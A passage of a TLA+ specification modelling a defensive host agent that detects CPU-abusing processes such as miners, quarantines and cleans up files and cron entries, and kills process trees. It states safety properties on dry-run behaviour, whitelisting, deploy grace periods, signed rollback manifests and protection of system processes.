    /\ kill_actions = <<>>
    /\ last_action = NoCall
    /\ adjusted_confidence = 0
    /\ handled = 0
    /\ cur \in [taken : {FALSE}, process : ProcessInfos, cpu_percent : {19, 20, 21, 29, 30, 31},
                duration : {599, 600, 601}, confidence : {0}]

SpecAnalyze == InitAnalyze /\ [][AnalyzeNewProcess]_vars

InitManifest ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("")
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ suspicious_processes = <<>>
    /\ \E t \in Timestamps : manifest = new(t)

NextManifest ==
    \/ (\E a \in RollbackActions : AddAction(a)) /\ UNCHANGED <<cpuVars, hostVars, pipeVars, scanVars, loopVars>>
    \/ (\E key \in Keys : Sign(key)) /\ UNCHANGED <<cpuVars, hostVars, pipeVars, scanVars, loopVars>>
    \/ (\E key \in Keys : Verify(key)) /\ UNCHANGED <<cpuVars, hostVars, pipeVars, scanVars, loopVars>>
    \/ Modify /\ UNCHANGED <<cpuVars, hostVars, pipeVars, scanVars, loopVars>>
    \/ (\E path \in ManifestPaths : Save(path)) /\ UNCHANGED <<cpuVars, hostVars, pipeVars, scanVars, loopVars>>
    \/ (\E path \in ManifestPaths : Load(path)) /\ UNCHANGED <<cpuVars, hostVars, pipeVars, scanVars, loopVars>>

SpecManifest == InitManifest /\ [][NextManifest]_vars

\* One detected file through the file-scan step, or one remove_cron_safely
\* call, under every setting of dry_run and of the file_scanning switches.
InitFileScan ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ InitScanVars
    /\ LoopAtRest("")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ \E dry_run \in BOOLEAN :
           config = [dry_run |-> dry_run, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ file_scanning \in [kill_processes_using_file : BOOLEAN, aggressive_cleanup : BOOLEAN,
                          auto_delete : BOOLEAN]
    /\ processes \in ProcessTables
    /\ \E files \in DirListings : parent_dir = [exists |-> TRUE, files |-> files]
    /\ cron_file \in CronFiles
    /\ scan_pc \in {"found", "cron"}

NextFileScan ==
    \/ KillUsers /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ OriginCleanup /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ SignAndSave /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ HandleMalware /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ RecordMalware /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ CronBackup /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ CronReplace /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>
    \/ CronSave /\ UNCHANGED <<cpuVars, pipeVars, loopVars>>

SpecFileScan == InitFileScan /\ [][NextFileScan]_vars

\* decide_action and execute_action as functions of their arguments: every
\* process of the model at confidences on both sides of the two thresholds,
\* with every combination of supervisor bindings, under every configuration.
InitDecide ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("decision")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config \in [dry_run : BOOLEAN, audit_only : BOOLEAN, auto_kill : BOOLEAN]
    /\ decision \in [process : ProcessInfos, confidence : {0, 69, 70, 94, 95, 100},
                     idx : SUBSET {"pm2", "systemd", "nginx"}, action : {"none"}]

SpecDecide == InitDecide /\ [][Decide]_vars

\* Detections of a process of an application while a deploy of it comes and
\* goes, with the agent set to act (no dry run, auto_kill on).  An earlier
\* detection may have cached a deploy for a directory in this minute.
InitDeploy ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("deploy")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ \E cached \in [DeployDirs -> {-1, 0}] :
           deploy = [now |-> 0, evidence |-> NoEvidence, cwd |-> <<>>,
                     grace_period_minutes |-> grace_period_minutes,
                     recent_deploys |-> cached]

NextDeploy ==
    \/ DeployActivity /\ UNCHANGED <<cpuVars, manifestVars, scanVars, scanner, reaper, decision, killer, tick, environment, index>>
    \/ MinutePasses /\ UNCHANGED <<cpuVars, manifestVars, scanVars, scanner, reaper, decision, killer, tick, environment, index>>
    \/ should_suspend_kill
          /\ UNCHANGED <<cpuVars, manifestVars, scanVars, scanner, reaper, decision, killer, tick, environment, index>>
    \/ NpmInfection /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ ReactCheck /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ FinalKill /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>
    \/ EndAbuse /\ UNCHANGED <<cpuVars, manifestVars, scanVars, loopVars>>

SpecDeploy == InitDeploy /\ [][NextDeploy]_vars

\* A new DeployDetector: nothing cached, no deploy seen yet.
InitDeployCache ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("deploy")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ deploy = [now |-> 0, evidence |-> NoEvidence, cwd |-> <<>>, path |-> <<>>,
                 suspended |-> FALSE, grace_period_minutes |-> long_grace_minutes,
                 recent_deploys |-> [d \in DeployDirs |-> -1]]

NextDeployCache ==
    \/ DetectRecentDeploy
    \/ cleanup_old_records
    \/ ArtifactTouched
    \/ CacheMinutePasses

SpecDeployCache == InitDeployCache /\ [][NextDeployCache]_vars

\* C35: whenever detect_recent_deploy answers true for a directory, an artifact
\* of that directory was modified no more than the grace period ago; an entry
\* of the cache does not keep the answer true after that.
C35_SuppressionEndsWithTheGracePeriod ==
    (deploy.path # <<>> /\ deploy.suspended) =>
        /\ deploy.evidence.kind # "none"
        /\ deploy.evidence.dir = deploy.path
        /\ deploy.now - deploy.evidence.at <= deploy.grace_period_minutes

\* Kill sequences on processes of a tree, with the agent set to act;
\* KillEngine's monitor holds the pids it saw at its last refresh.
InitKill ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ InitScanVars
    /\ LoopAtRest("killer")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ file_scanning = [kill_processes_using_file |-> TRUE, aggressive_cleanup |-> TRUE,
                        auto_delete |-> FALSE]
    /\ processes \in KillTables
    /\ parent_dir = [exists |-> TRUE, files |-> {file_name(MalwarePath)}]
    /\ cron_file = NoCron
    /\ scan_pc = "end"
    /\ \E monitor \in SUBSET Pids :
           killer = [engine |-> "none", pc |-> "idle", pid |-> 0, monitor |-> monitor,
                     recorded |-> "none"]

KillRest ==
    UNCHANGED <<cpuVars, manifestVars, file_scanning, parent_dir, quarantine_dir, cron_file,
                cron_dir, malware_files, scan_local, scan_pc, scanner, reaper, decision, deploy,
                tick, environment, index>>

NextKill ==
    \/ SendSigterm /\ KillRest
    \/ SendSigkill /\ KillRest
    \/ KillReturns /\ KillRest
    \/ ProcessExits /\ KillRest

SpecKill == InitKill /\ [][NextKill]_vars

\* The iterations of run, every fallible call failing or not; the runtime
\* keeps the task going.
InitLoop ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("tick")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ tick = [pc |-> "sleep", cpu_abuses |-> <<>>, detected |-> {}, visited |-> {},
               failed |-> {}, ticks |-> 0]

NextLoop == BeginTick \/ HandleAbuse \/ CheckCron \/ ScanFiles \/ EndTick

SpecLoop == InitLoop /\ [][NextLoop]_vars /\ WF_vars(NextLoop)

\* compute_cpu_threshold on every base threshold, detected count and override.
InitEnvironment ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("environment")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ environment \in [vcpu_count : 1..MaxVcpu,
                        base_threshold : 0..MaxThreshold,
                        vcpu_override : {<<>>} \cup {<<n>> : n \in 0..MaxVcpu},
                        pc : {"idle"}]

SpecEnvironment == InitEnvironment /\ [][ComputeThreshold]_vars

\* A tree kill of pid 1 by either engine, on every tree of the bound and every
\* order in which the process map yields the processes.
InitTreeKill ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ InitScanVars
    /\ LoopAtRest("killer")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ file_scanning = [kill_processes_using_file |-> TRUE, aggressive_cleanup |-> TRUE,
                        auto_delete |-> FALSE]
    /\ processes \in TreeTables
    /\ parent_dir = [exists |-> TRUE, files |-> {file_name(MalwarePath)}]
    /\ cron_file = NoCron
    /\ scan_pc = "end"
    /\ \E engine \in {"kill_process_tree", "kill_processes_using_file"},
          scan \in Orders(TreePids \ {TreeRoot}) :
           killer = [engine |-> engine, pc |-> "idle", scan |-> scan, tree |-> <<>>,
                     table |-> processes, forks |-> 0]

NextTreeKill ==
    \/ TreeSigtermChildren
    \/ TreeFork
    \/ TreeChildrenExit
    \/ TreeSigkillChildren
    \/ TreeSigtermRoot
    \/ TreeSigkillRoot

SpecTreeKill == InitTreeKill /\ [][NextTreeKill]_vars

\* One supervisor index from its construction on.
InitIndex ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("index")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ \E kind \in IndexKinds, listed \in SUBSET Pids :
           index = [pc |-> "idle", kind |-> kind, now |-> 0, last_refresh |-> 0,
                    entries |-> {}, listed |-> listed, queries |-> 0, pid |-> 0,
                    answer |-> FALSE]

NextIndex == IndexQuery \/ IndexClock \/ IndexHostChanges

SpecIndex == InitIndex /\ [][NextIndex]_vars

\* The iterations of run without end, the file scan disabled or at one of
\* three intervals.
InitPeriodic ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("tick")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ \E interval \in {Never, 1, 3, 5} :
           tick = [pc |-> "sleep", cron_check_counter |-> 0, file_scan_counter |-> 0,
                   file_scan_interval |-> interval, deploy_cleanup_counter |-> 0,
                   db_maintenance_counter |-> 0, ran |-> {}, listed |-> TRUE]

NextPeriodic == Iterate \/ IterateWithoutList

SpecPeriodic == InitPeriodic /\ [][NextPeriodic]_vars /\ WF_vars(NextPeriodic)

\* scan_directory on directories of every size around the limit of ten.
InitScanDirectory ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("scanner")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ scanner \in [pc : {"idle"}, files : 8..MaxFiles, parallel_scan : BOOLEAN,
                    max_scan_threads : 1..MaxScanThreads, workers : {<<>>}]

SpecScanDirectory == InitScanDirectory /\ [][scan_directory]_vars

\* ---- FileQuarantine.quarantine_file (src/src/file_quarantine.rs 35-57)
\* The clock counts half seconds; the files to quarantine are in two
\* directories, two of them with the same name, each with its own content.
VaultFiles ==
    {[dir |-> d, name |-> n, content |-> <<d, n>>] :
        d \in {"tmp", "dev_shm"}, n \in {"xmrig", "kinsing"}}

\* Utc::now().format("%Y%m%d_%H%M%S"): the whole second.
format_timestamp(at) == at \div 2

\* fs::rename: the destination holds the content of the source, whatever it
\* held before; the other entries stay.
rename(dir, quarantine_name, content) ==
    {entry \in dir : entry.name # quarantine_name}
        \cup {[name |-> quarantine_name, content |-> content]}

quarantine_file ==
    /\ \E file_path \in VaultFiles :
           IF file_path \notin scanner.files
           THEN scanner' = [scanner EXCEPT !.calls = Append(@, [file_path |-> file_path,
                                                                ok |-> FALSE])]
           ELSE LET quarantine_name == <<format_timestamp(scanner.now), file_path.name>>
                IN  scanner' = [scanner EXCEPT
                        !.files = @ \ {file_path},
                        !.quarantine_dir = rename(@, quarantine_name, file_path.content),
                        !.calls = Append(@, [file_path |-> file_path, ok |-> TRUE,
                                             quarantine_path |-> quarantine_name])]
    /\ Len(scanner.calls) < MaxVaultCalls
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, reaper,
                   decision, deploy, killer, tick, environment, index>>

HalfSecondPasses ==
    /\ scanner.now < MaxHalfSeconds
    /\ scanner' = [scanner EXCEPT !.now = @ + 1]
    /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, reaper,
                   decision, deploy, killer, tick, environment, index>>

\* An empty vault and the files in place.
InitVault ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("scanner")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ scanner = [now |-> 0, files |-> VaultFiles, quarantine_dir |-> {}, calls |-> <<>>]

NextVault ==
    \/ quarantine_file
    \/ HalfSecondPasses

SpecVault == InitVault /\ [][NextVault]_vars

\* One path scanned again and again while the file is written.
InitHashCache ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("scanner")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ scanner = [file |-> [content |-> "v1", mtime |-> 0], cache |-> NoRow,
                  pc |-> "idle", mtime |-> 0, file_hash |-> Sha256("v1")]

NextHashCache ==
    \/ scan_file /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, reaper,
                               decision, deploy, killer, tick, environment, index>>
    \/ WriteFile /\ UNCHANGED <<cpuVars, hostVars, pipeVars, manifestVars, scanVars, reaper,
                               decision, deploy, killer, tick, environment, index>>

SpecHashCache == InitHashCache /\ [][NextHashCache]_vars

\* One check_and_reap call.  The agent's steps are taken whenever they can
\* be (the loop is not suspended in between); the host's are not bound to
\* happen.
InitReaper ==
    /\ InitCpuVars
    /\ InitHostVars
    /\ InitPipeVars
    /\ InitManifestVars
    /\ ScanAtRest
    /\ LoopAtRest("reaper")
    /\ manifest = new(<<"t1">>)
    /\ suspicious_processes = <<>>
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ \E status \in [Pids -> {"zombie_child", "alive_child", "zombie_other", "none"}],
          threshold \in 1..MaxPid :
           reaper = [status |-> status, threshold |-> threshold, pc |-> "idle",
                     zombies |-> <<>>, total_count |-> 0, reaped |-> 0, results |-> <<>>]

NextReaper ==
    \/ check_and_reap
    \/ reap_zombies
    \/ HostProcesses

SpecReaper ==
    InitReaper /\ [][NextReaper]_vars /\ WF_vars(check_and_reap) /\ WF_vars(reap_zombies)

\* ------------------------------------------------------------ C1, C2
\* The part of C1 about continuity alone: a pid detected at this tick was at
\* or above the threshold in every snapshot since its entry was inserted.
DetectionsSustained ==
    \A d \in cpu_abuses : streak[d.pid] >= tracked_for[d.pid] /\ tracked_for[d.pid] >= 2

\* C1: a detection for pid p is emitted at a tick only if p was present with
\* cpu_percent >= threshold in every snapshot since the tick that recorded its
\* current first_seen, and now - first_seen >= duration_seconds.
C1_DetectionOnlyAfterSustainedDuration ==
    \A d \in cpu_abuses :
        /\ streak[d.pid] >= tracked_for[d.pid]
        /\ d.last_seen - d.first_seen >= duration_seconds

\* C2: a tracked pid seen below the threshold loses its entry in that call; a
\* pid at or above the threshold with no entry gets one whose first_seen is the
\* time of that call; and no detection is emitted for a pid before a full
\* duration has elapsed since its entry's first_seen.
DipRemovesEntry ==
    \A p \in Pids :
        (process_history[p].tracked /\ snapshot'[p].present
            /\ snapshot'[p].cpu_percent < cpu_threshold)
        => ~process_history'[p].tracked

RecrossStartsFresh ==
    \A p \in Pids :
        (~process_history[p].tracked /\ IsAbove(snapshot'[p]))
        => /\ process_history'[p].tracked
           /\ process_history'[p].first_seen = now'
           /\ \A d \in cpu_abuses' : d.pid # p

NoDetectionBeforeFullDuration ==
    \A d \in cpu_abuses' :
        now' - process_history[d.pid].first_seen >= duration_seconds

C2_DipResetsTracking ==
    [][DipRemovesEntry /\ RecrossStartsFresh /\ NoDetectionBeforeFullDuration]_vars

C2_DipAndRecrossOnly == [][DipRemovesEntry /\ RecrossStartsFresh]_vars

RestartStep ==
    /\ pc = "idle"
    /\ pc' = "npm"
    /\ get_suspicious_by_binary(suspicious_processes, cur'.process.binary_path) # NoRow
    /\ get_suspicious_by_binary(suspicious_processes, cur'.process.binary_path).pid
           # cur'.process.pid

RestartKeepsConfidence ==
    LET exe == cur'.process.binary_path
        before == get_suspicious_by_binary(suspicious_processes, exe)
        after == get_suspicious_by_binary(suspicious_processes', exe)
    IN  /\ cur'.confidence >= before.threat_confidence
        /\ suspicious_processes' # suspicious_processes =>
               \E i \in 1..Len(suspicious_processes') :
                   /\ suspicious_processes'[i].binary_path = exe
                   /\ suspicious_processes'[i].pid = cur'.process.pid
                   /\ suspicious_processes'[i].threat_confidence = cur'.confidence
        /\ after.threat_confidence >= before.threat_confidence

C9_DryRunExecutesNothing ==
    (config.dry_run \/ config.audit_only) =>
        /\ last_action.called => last_action.result = "Ok(false)"
        /\ signals = <<>>
        /\ supervisor_stops = <<>>
        /\ kill_actions = <<>>

\* A direct kill decided at confidence 1.0 with auto_kill on, under dry_run.
C9_Witness ==
    /\ config.dry_run
    /\ config.auto_kill
    /\ last_action.called
    /\ last_action.action = "KillDirect"
    /\ last_action.confidence = 100

\* ------------------------------------------------------------ C6
\* Right after sign(key), verify(key) is true.
SignedVerifies == last_op = "sign" => verify(manifest, sealed.key)

\* verify(key) is true only of a manifest that is, field by field, as a
\* sign(key) left it: not after a change to the timestamp, to an action or to
\* hmac_signature, not under another key, not when never signed.
VerifiesOnlyIfUnmodified ==
    \A key \in Keys :
        verify(manifest, key) => sealed.signed /\ sealed.key = key /\ sealed.manifest = manifest

\* C6: for every manifest and key, verify(key) is true after sign(key), also
\* when the manifest carried a signature before; and verify is false after any
\* change to the timestamp, an action or hmac_signature, with a different key,
\* and for a never-signed manifest.
C6_SignThenVerify == SignedVerifies /\ VerifiesOnlyIfUnmodified

\* ------------------------------------------------------------ C7
\* A load of what save wrote yields the saved manifest, field by field.
LoadReturnsSaved ==
    (last_op = "load" /\ saved_as[loaded.stem].saved) =>
        loaded.ok /\ loaded.manifest = saved_as[loaded.stem].manifest

\* C7: load(p) after save(p) of a signed manifest yields a manifest equal to it
\* in timestamp, actions and hmac_signature, and verify on the loaded manifest
\* with the signing key is true.
C7_SaveLoadRoundTrip ==
    (last_op = "load" /\ saved_as[loaded.stem].saved /\ saved_as[loaded.stem].signed) =>
        /\ loaded.ok
        /\ loaded.manifest = saved_as[loaded.stem].manifest
        /\ verify(loaded.manifest, saved_as[loaded.stem].key)

\* A manifest that verifies under the rollback key is on disk in the rollback
\* directory.
SignedManifestSaved ==
    \E st \in Stems :
        /\ disk[st] # NoFile
        /\ from_str(disk[st]).ok
        /\ verify(from_str(disk[st]).manifest, RollbackKey)

\* A step that signals a process, stops a unit or an app, removes or moves a
\* file of the detected file's directory, or rewrites the cron file.
Destructive ==
    \/ signals' # signals
    \/ supervisor_stops' # supervisor_stops
    \/ parent_dir' # parent_dir
    \/ cron_file' # cron_file

\* C5: no destructive action executes without a signed manifest already
\* persisted: before the file-scan step kills processes, deletes siblings or
\* the directory, or moves or deletes the detected file, and before
\* remove_cron_safely replaces the cron file, a signed rollback manifest is
\* on disk in the rollback directory.
C5_ManifestPersistedBeforeDestruction == [][Destructive => SignedManifestSaved]_vars

\* C8: no signal and no supervisor stop is ever issued to a process whose exe
\* is a system binary (/sbin/init, /usr/sbin/sshd, /usr/bin/systemd,
\* /lib/systemd/), neither by the CPU-abuse pipeline nor by the file-scan
\* step that kills the processes using a detected file.
C8_NoSystemProcessSignalled ==
    /\ \A i \in DOMAIN signals : ~is_system_process(signals[i].binary_path)
    /\ \A i \in DOMAIN supervisor_stops : ~is_system_process(supervisor_stops[i].binary_path)

\* C10: with dry_run set, neither the file-scan step nor remove_cron_safely
\* signals a process or creates, moves, modifies or deletes a file outside
\* the audit database and the rollback directory.
C10_DryRunLeavesHostUntouched ==
    [][config.dry_run =>
          /\ signals' = signals
          /\ parent_dir' = parent_dir
          /\ quarantine_dir' = quarantine_dir
          /\ cron_file' = cron_file
          /\ cron_dir' = cron_dir]_vars

\* The part of C10 the code does keep: with dry_run set the origin cleanup
\* deletes nothing and the cron file is not rewritten.
DryRunSkipsCleanupAndRewrite ==
    [][config.dry_run =>
          /\ cron_file' = cron_file
          /\ scan_pc = "cleanup" => parent_dir' = parent_dir]_vars

\* ------------------------------------------------------------ C11
\* C11: whenever scan_file reuses a cached hash because the cached mtime
\* equals the file's current mtime, that hash is the SHA-256 of the file's
\* current content, also after writes that leave the mtime in whole seconds
\* unchanged.
C11_CacheHitMatchesContent ==
    [][(scanner.pc = "lookup" /\ scanner'.pc = "reused"
            /\ scanner.cache.mtime = as_secs(scanner.file.mtime))
       => scanner'.file_hash = Sha256(scanner.file.content)]_vars

\* ------------------------------------------------------------ C12
\* C12: the zombie reaper never blocks: every waitpid of reap_zombies uses
\* WNOHANG, so check_and_reap completes, in a number of waitpid calls that is
\* at most the number of zombies detected, also for pids that are still alive
\* or are not children of the agent.
C12_ReaperNeverBlocks ==
    /\ <>(reaper.pc = "done")
    /\ [](Len(reaper.results) <= reaper.total_count)
    /\ [](\A i \in DOMAIN reaper.results : reaper.results[i] # "Blocks")

\* A call that is over after a waitpid on a running child and one on a pid
\* that is no child of the agent.
C12_Witness ==
    /\ reaper.pc = "done"
    /\ \E i, j \in DOMAIN reaper.results :
           reaper.results[i] = "StillAlive" /\ reaper.results[j] = "ECHILD"

\* ------------------------------------------------------------ C13
\* C13: decide_action returns Skip for every process for which is_whitelisted
\* is true, whatever its confidence, its PM2, systemd or nginx binding and
\* the place of its exe, and executing Skip changes nothing on the host or in
\* the database.
C13_WhitelistedIsSkipped ==
    (decision.action # "none" /\ is_whitelisted(decision.process)) =>
        /\ decision.action = "Skip"
        /\ last_action.result = "Ok(false)"
        /\ signals = <<>>
        /\ supervisor_stops = <<>>
        /\ kill_actions = <<>>
        /\ suspicious_processes = <<>>

\* A whitelisted PM2 app at confidence 1.0 with everything switched on.
C13_Witness ==
    /\ decision.action = "Skip"
    /\ decision.process.binary_path = ExeApp
    /\ decision.confidence = 100
    /\ decision.idx = {"pm2", "systemd", "nginx"}
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ last_action.called

\* ------------------------------------------------------------ C14
\* C14: for a process that is not whitelisted, bound to a PM2 app: StopPm2
\* iff confidence >= high_confidence_threshold, Notify otherwise; not bound
\* to PM2 but to a systemd unit: StopUnit iff confidence >=
\* high_confidence_threshold, Notify otherwise; and a Notify decision invokes
\* neither pm2 stop nor systemctl stop.
C14_SupervisedStopOnlyAtHighConfidence ==
    (decision.action # "none" /\ ~is_whitelisted(decision.process)) =>
        /\ "pm2" \in decision.idx =>
               decision.action = IF decision.confidence >= 95 THEN "StopPm2" ELSE "Notify"
        /\ ("pm2" \notin decision.idx /\ "systemd" \in decision.idx) =>
               decision.action = IF decision.confidence >= 95 THEN "StopUnit" ELSE "Notify"
        /\ decision.action = "Notify" => supervisor_stops = <<>>

\* A PM2 app good for a direct kill (0.94 in /tmp) that is only notified.
C14_Witness ==
    /\ decision.action = "Notify"
    /\ decision.process.binary_path = ExeTmp
    /\ decision.confidence = 94
    /\ "pm2" \in decision.idx
    /\ config = [dry_run |-> FALSE, audit_only |-> FALSE, auto_kill |-> TRUE]
    /\ last_action.called

\* ------------------------------------------------------------ C15
\* C15: for a process that is not whitelisted and has neither a PM2 nor a
\* systemd binding, KillDirect iff it is no nginx upstream, its exe is under
\* /tmp, /var/tmp or /home, and confidence >= threat_confidence_threshold;
\* Notify in every other case.
C15_DirectKillOnlyFromSuspiciousLocation ==
    (decision.action # "none" /\ ~is_whitelisted(decision.process)
        /\ decision.idx \cap {"pm2", "systemd"} = {}) =>
        decision.action =
            IF /\ "nginx" \notin decision.idx
               /\ \/ decision.process.binary_path[1] = "tmp"
                  \/ SubSeq(decision.process.binary_path, 1, 2) = <<"var", "tmp">>
                  \/ /\ decision.process.binary_path[1] = "home"
                     /\ ~is_whitelisted_home_directory(decision.process.binary_path)
               /\ decision.confidence >= 70
            THEN "KillDirect"
            ELSE "Notify"

\* An nginx upstream running from /tmp at confidence 1.0 that is only notified.
C15_Witness ==
    /\ decision.action = "Notify"
    /\ decision.process.binary_path = ExeTmp
    /\ decision.confidence = 100
    /\ decision.idx = {"nginx"}
    /\ last_action.called

\* ------------------------------------------------------------ C16
\* Deploy activity within the grace window is observable for a directory.
DeployObservable(dir) ==
    /\ deploy.evidence.kind # "none"
    /\ deploy.evidence.dir = dir
    /\ deploy.evidence.kind = "install" \/ within_grace(deploy.evidence.at)

\* C16: while deploy activity within the grace window is observable for the
\* working directory of a detected process, the main loop executes no stop
\* and no kill on that process, whatever its confidence.
C16_NoActionDuringDeployGrace ==
    [][(pc # "idle" /\ DeployObservable(deploy.cwd)) =>
          (signals' = signals /\ supervisor_stops' = supervisor_stops)]_vars

\* ------------------------------------------------------------ C17
\* C17: with auto_kill = false, executing KillDirect, decided directly or
\* reached as the fallback of StopPm2 / StopUnit (no app or unit found for the
\* pid, so no stop command is run), sends no signal, writes no KillAction row
\* and returns Ok(false).
C17_AutoKillOffKillsNothing ==
    (~config.auto_kill /\ last_action.called
        /\ \/ decision.action = "KillDirect"
           \/ decision.action \in {"StopPm2", "StopUnit"} /\ supervisor_stops = <<>>) =>
        /\ signals = <<>>
        /\ kill_actions = <<>>
        /\ last_action.result = "Ok(false)"

\* The fallback of a StopPm2 whose app is gone, executed for real.
C17_Witness ==
    /\ ~config.auto_kill
    /\ ~config.dry_run
    /\ ~config.audit_only
    /\ decision.action = "StopPm2"
    /\ supervisor_stops = <<>>
    /\ last_action.called

\* ------------------------------------------------------------ C18
\* C18: executing KillDirect on pid p delivers SIGTERM to p and to every
\* descendant of p in the process snapshot, not to p alone.
C18_SigtermReachesTheTree ==
    (killer.engine = "kill_direct" /\ killer.pc = "wait") =>
        \A q \in get_full_process_tree(processes, killer.pid) :
            \E i \in DOMAIN signals : signals[i].pid = q /\ signals[i].sig = "SIGTERM"

\* ------------------------------------------------------------ C19
\* The pids a step sends SIGKILL to.
SigkilledInStep ==
    {signals'[i].pid : i \in {j \in DOMAIN signals' : /\ j > Len(signals)
                                                      /\ signals'[j].sig = "SIGKILL"}}

\* C19: after the wait that follows SIGTERM, SIGKILL goes to exactly the
\* targeted processes that are alive at that moment: to no pid that has
\* exited, and to every survivor.
C19_SigkillExactlyToSurvivors ==
    [][(killer.pc = "wait" /\ killer'.pc = "done") =>
          SigkilledInStep = {p \in {killer.pid} : processes[p].alive}]_vars

\* ------------------------------------------------------------ C20
\* C20: with auto_delete = false, a detected file that the file-scan step has
\* removed from its path is in the quarantine directory (moved, not deleted),
\* also when the aggressive cleanup ran on a directory in which every file
\* has a suspicious name.
C20_RemovedFileIsQuarantined ==
    (~file_scanning.auto_delete
        /\ ~(parent_dir.exists /\ file_name(MalwarePath) \in parent_dir.files)) =>
        (<<"ts_">> \o file_name(MalwarePath)) \in quarantine_dir

\* ------------------------------------------------------------ C21
\* C21: once the file-scan step for a file is over, every RestoreFile action
\* of the manifest it saved names in `from` a file of the quarantine
\* directory, the place where what was at `to` is stored: for the detected
\* file and for every sibling the origin cleanup removed.
C21_RestoreFromIsInTheVault ==
    (scan_pc = "end" /\ "malware_xmrig" \in scripts) =>
        \A i \in DOMAIN manifest.actions :
            manifest.actions[i].type = "RestoreFile" =>
                \E stored \in quarantine_dir :
                    manifest.actions[i].from =
                        FileString(<<"var", "lib", "hora-police", "quarantine">>, stored)

\* ------------------------------------------------------------ C22
\* A remove_cron_safely call that went through to the end without dry_run.
CronRemoved ==
    /\ scan_pc = "end"
    /\ ~config.dry_run
    /\ scan_local.result = "Ok(Some)"
    /\ "current_content" \in DOMAIN scan_local

\* What the call is to leave: the lines kept in their order, or the marker.
CronLeft(kept) ==
    /\ \E b \in cron_dir : b.content = read_to_string(scan_local.current_content)
    /\ cron_file.lines = IF kept = <<>> THEN <<CleanedMarker>> ELSE kept

